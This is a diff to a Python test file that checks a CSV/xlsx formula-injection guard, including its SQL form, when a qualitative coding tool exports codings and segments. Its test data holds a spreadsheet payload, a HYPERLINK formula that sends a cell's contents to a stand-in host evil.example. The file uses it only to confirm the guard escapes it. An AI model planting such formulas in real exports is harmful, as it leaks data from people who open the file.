@@ -1,6 +1,7 @@
 """``codeer codings export`` goes through codeer's one table writer: a formula in a memo is guarded, an
 ``.xlsx`` name gets a real workbook, ``--excel`` writes Dutch Excel's CSV, a suffix without a writer is
-refused; and every one of those files imports back to exactly the codings it came from."""
+refused; and every one of those files imports back to exactly the codings it came from. The guard as an
+SQL expression (segments rows come out of the database neutralised) is the guard, on both backends."""
 
 from __future__ import annotations
 
@@ -10,9 +11,12 @@ from pathlib import Path
 import pytest
 from conftest import run_cli
 from openpyxl import load_workbook
+from sqlalchemy import String, literal, select
 from test_backends import write_study
 
-from codeer.formulas import guard, unguard
+from codeer.analysis.segments import segment_rows
+from codeer.formulas import guard, guard_sql, unguard
+from codeer.store.database import open_database
 
 MEMOS = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "'=al met apostrof", "-3", "@SUM(1)", "gewoon"]
 
@@ -89,3 +93,52 @@ def test_a_suffix_without_a_writer_is_refused(coded: Path, project: Path, tmp_pa
     result = run_cli(project, "codings", "export", str(out))
     assert result.code == 2 and "cannot write .ods: use .csv or .xlsx" in result.err
     assert not out.exists()
+
+
+TRICKY = [
+    *MEMOS,
+    "",
+    "'",
+    "''",
+    "''=x",
+    "'''+1",
+    "'gewoon",
+    "=",
+    "\t",
+    "\r\nx",
+    "\n=",
+    " =1",
+    "＝1",
+    "é=",
+    "'\t",
+]
+
+
+def test_the_guard_in_sql_is_the_guard(db_url: str) -> None:
+    db = open_database(db_url)
+    with db.read_session() as session:
+        found = [session.scalar(select(guard_sql(literal(text, String)))) for text in TRICKY]
+    db.close()
+    assert found == [guard(text) for text in TRICKY]
+
+
+def test_segments_are_written_guarded_as_every_table_is(coded: Path, project: Path, tmp_path: Path) -> None:
+    db = open_database(f"sqlite:///{project / 'codeer.db'}")
+    with db.read_session() as session:
+        plain = [list(row) for row in segment_rows(session)]
+    db.close()
+    as_text = [
+        [guard(v) if isinstance(v, str) else ("" if v is None else str(v)) for v in row] for row in plain
+    ]
+    out = tmp_path / "segments.csv"
+    assert run_cli(project, "export", "segments", "-o", str(out)).code == 0
+    with out.open(encoding="utf-8", newline="") as handle:
+        written = list(csv.reader(handle))[1:]
+    # columns end with memo, passage_memo, text
+    assert written == as_text and {row[-3] for row in written} >= {"'" + MEMOS[0], "''=al met apostrof"}
+    book = tmp_path / "segments.xlsx"
+    assert run_cli(project, "export", "segments", "-o", str(book)).code == 0
+    cells = [list(row) for row in load_workbook(book).worksheets[0].iter_rows(values_only=True)][1:]
+    assert cells == [[(guard(v) or None) if isinstance(v, str) else v for v in row] for row in plain]
+    shown = run_cli(project, "export", "segments")
+    assert shown.code == 0 and "=al met apostrof" in shown.out and "''=al" not in shown.out
